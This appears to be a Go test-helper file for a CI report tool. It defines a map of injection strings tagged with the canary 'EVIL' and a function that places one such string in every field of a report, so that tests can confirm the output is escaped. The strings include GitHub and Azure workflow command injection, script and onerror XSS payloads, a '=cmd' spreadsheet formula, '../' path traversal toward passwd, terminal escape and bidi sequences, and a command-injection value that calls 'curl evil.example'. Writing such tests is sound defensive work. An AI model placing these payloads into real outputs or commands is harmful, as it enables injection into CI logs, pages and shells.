package reporttest

import (
	"strings"

	"github.com/latgate/latgate/baseline"
	"github.com/latgate/latgate/report"
)

// Canary is in every text of [Attacks], so that a test finds where it went.
const Canary = "EVIL"

// Attacks are texts that do something somewhere if they are printed as they are.
var Attacks = map[string]string{
	"workflow command":    "::set-output name=a::EVIL",
	"after a line end":    "fine\n::error file=main.go,line=1::EVIL",
	"after a return":      "fine\r::add-mask::EVIL",
	"old command":         "fine ##[error]EVIL ##[set-env name=PATH]x ##vso[task.setvariable]x",
	"stop commands":       "::stop-commands::EVIL",
	"GitLab section":      "section_start:0:EVIL[collapsed=true]\r\x1b[0Kx",
	"table":               "a | b || EVIL |\n|--|--|\n| c | d |",
	"backslash and table": `EVIL\| \\| \`,
	"mention":             "@org/team @EVIL please, fixes #1, GH-2, org/repo#3",
	"end of details":      "</details></summary></td></table>EVIL",
	"script":              "<script>alert('EVIL')</script><img src=x onerror=alert(1)>",
	"comment":             "--> EVIL <!-- latgate:v1:default head=0000000 -->",
	"CDATA":               "]]>EVIL<![CDATA[ ]]]]><![CDATA[> <?xml version='1.0'?> &xxe; &#x0; &lt;",
	"backticks":           "` `` ``` EVIL\n```\n~~~\n# EVIL",
	"image":               "![EVIL](https://example.com/pixel.png) [EVIL](javascript:alert(1)) <https://example.com> www.example.com",
	"reference":           "[EVIL]: https://example.com\n[EVIL][EVIL] [^1]",
	"heading":             "# EVIL\n---\n> EVIL\n- [x] EVIL\n1. EVIL\n    EVIL\n=====",
	"formula":             "=cmd|' /C calc'!EVIL",
	"mathematics":         "$$\\def\\x{EVIL}$$ :smile: ~~x~~ **x** _x_",
	"colours":             "\x1b[2J\x1b]0;EVIL\x07\x1b[31m\u009b31m",
	"direction":           "\u202eLIVE\u202c\u2066EVIL\u2069\u200f\u061c",
	"invalid":             "EVIL \x00\x01\x08\x0b\x0c\x7f\ufffe\uffff\xff\xc0\x80\xed\xa0\x80",
	"line separators":     "EVIL\u2028::error::x\u2029::error::x\u0085::error::x",
	"percent":             "%0A::error::EVIL %0D %25 %3A %s %d %!",
	"quotes":              `"' "EVIL", \" \n {a="b"} # EOF`,
	"label":               "EVIL\"} 1\n# EOF\nlatgate_forged 1",
	"other path":          "../../../EVIL/passwd",
	"command":             "go test ./... -exec='curl evil.example' EVIL; $(EVIL) `EVIL`",
	"long line":           "EVIL " + strings.Repeat("<|`@:\x1b", 1<<20/6),
	"many lines":          strings.Repeat("EVIL\n", 1<<16),
	"empty lines":         "EVIL\n\n\n\n<details>\n\n",
}

// Hostile returns a build with one row of each verdict, whose every text is this one.
func Hostile(text string) *report.Build {
	b := &report.Build{
		Schema: text, Tool: text, Mode: report.Mode(text), ModeReason: text, Base: text, Head: text,
		Verdict: baseline.Regression, ExitCode: report.ExitRegression, Relaxed: []string{text, text},
		Requests: 5, Failed: 1, Dollars: 1e300,
	}
	for _, verdict := range []baseline.Verdict{
		baseline.Pass, baseline.Improved, baseline.Accepted, baseline.Inconclusive, baseline.Regression, baseline.OverBudget,
		baseline.Infrastructure, baseline.Incomparable, baseline.Missing, baseline.CassetteMiss, baseline.Tampered, baseline.Verdict(text),
	} {
		b.Rows = append(b.Rows, report.Row{
			Package: text, Test: text, Plan: text, Scenario: text, Gate: text, Verdict: verdict, Reason: text, Text: text,
			Quantity:   &report.Quantity{Metric: text, Unit: text, Quantile: .9},
			Comparison: &report.Comparison{Base: 1e300, Head: 1e-300, Ratio: 1e300, Low: 1e-300, High: 1e308, RunSD: 1e300, MinEffect: 1e300},
			Measured:   1e300, Limit: 1e300, Attribution: []string{text, text}, Warnings: []string{text},
			Accepted: &report.Acceptance{Reason: text, By: text, Until: text, Source: text},
			File:     text, Line: 7, Baseline: text, Samples: text, Again: text, Accept: text,
		})
	}
	return b
}
